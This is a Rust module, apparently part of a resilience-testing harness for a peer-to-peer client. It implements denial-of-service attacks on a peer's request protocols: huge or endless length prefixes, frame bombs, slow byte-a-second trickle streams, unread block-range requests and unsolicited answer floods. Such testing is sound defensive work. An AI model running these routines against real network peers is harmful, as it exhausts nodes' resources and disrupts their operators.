//! Attacks with requests and answers.

use std::time::Duration;

use lean_p2p::{
    requests::{BY_RANGE, BY_ROOT, STATUS},
    wire::frame::{self, LengthOf},
};

use super::{Attack, Done};
use crate::raw::{
    Peer, Result,
    connection::{open, varint},
    noise,
};

/// The number of streams with an incomplete request.
const SLOW: usize = 30;

fn bytes(attack: Attack, seed: u64) -> Result<Vec<u8>> {
    Ok(match attack {
        // A length of gigabytes, or one without an end.
        Attack::Lengths if seed.is_multiple_of(2) => varint(u64::from(u32::MAX)),
        Attack::Lengths => vec![0xff; 100],
        // A valid length, and content that does not stop there.
        Attack::FrameBombs => {
            let mut frame = varint(32 * 1024);
            frame.extend(frame::write(&vec![0; 4 << 20], LengthOf::Content)?.get(4..).unwrap_or_default());
            frame
        }
        Attack::Roots => frame::write(&noise(32 * 1025, seed), LengthOf::Content)?,
        _ => frame::write(&noise(32 * 64, seed), LengthOf::Content)?,
    })
}

/// Sends requests of one kind, one after the other.
pub async fn repeat(attack: Attack, peer: &mut Peer, done: &Done) -> Result<()> {
    for seed in 0u64.. {
        let protocol = if attack == Attack::Lengths && seed.is_multiple_of(3) { STATUS } else { BY_ROOT };
        let (mut send, mut recv) = open(&peer.connection, protocol.as_ref()).await?;
        // Errors: the other side has given the stream up.
        let _ = send.write_all(&bytes(attack, seed)?).await;
        let _ = send.finish();
        let _ = recv.read_to_end(64 << 20).await;
        Done::add(&done.messages, 1);
    }
    Ok(())
}

/// Sends requests that are never complete: a byte a second.
pub async fn trickle(peer: &mut Peer, done: &Done) -> Result<()> {
    loop {
        let mut held = vec![];
        for number in 0..SLOW {
            let protocol = [STATUS, BY_ROOT, BY_RANGE][number % 3].clone();
            // An error: the other side takes no more of them.
            let Ok((mut send, recv)) = open(&peer.connection, protocol.as_ref()).await else { continue };
            Done::add(&done.streams, 1);
            let trickling = tokio::spawn(async move {
                while send.write_all(&[0x80]).await.is_ok() {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                }
            });
            held.push((trickling, recv));
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
        if let Some(reason) = peer.connection.close_reason() {
            return Err(reason.into());
        }
    }
}

/// Sends requests for blocks without end, and reads no answer.
pub async fn unread(peer: &mut Peer, done: &Done) -> Result<()> {
    let mut held = vec![];
    loop {
        let (mut send, recv) = peer.connection.open_bi().await?;
        let request = [1u64.to_le_bytes(), 1024u64.to_le_bytes()].concat();
        for part in ["/multistream/1.0.0", BY_RANGE.as_ref()] {
            send.write_all(&super::super::connection::line(part)).await?;
        }
        send.write_all(&frame::write(&request, LengthOf::Content)?).await?;
        send.finish()?;
        Done::add(&done.messages, 1);
        held.push(recv);
    }
}

/// Sends answers without requests: as requests, and after a request on the same stream.
pub async fn unasked(peer: &mut Peer, done: &Done) -> Result<()> {
    for seed in 0u64.. {
        let chunk = [vec![0], frame::write(&noise(100_000, seed), LengthOf::Content)?].concat();
        for protocol in [STATUS, BY_ROOT, BY_RANGE] {
            let Ok((mut send, mut recv)) = open(&peer.connection, protocol.as_ref()).await else { continue };
            if seed.is_multiple_of(2) {
                let _ = send.write_all(&frame::write(&[0; 80], LengthOf::Content)?).await;
            }
            // Errors: the other side has given the stream up.
            let _ = send.write_all(&chunk).await;
            let _ = send.finish();
            let _ = recv.read_to_end(64 << 20).await;
            Done::add(&done.messages, 1);
        }
        if let Some(reason) = peer.connection.close_reason() {
            return Err(reason.into());
        }
    }
    Ok(())
}
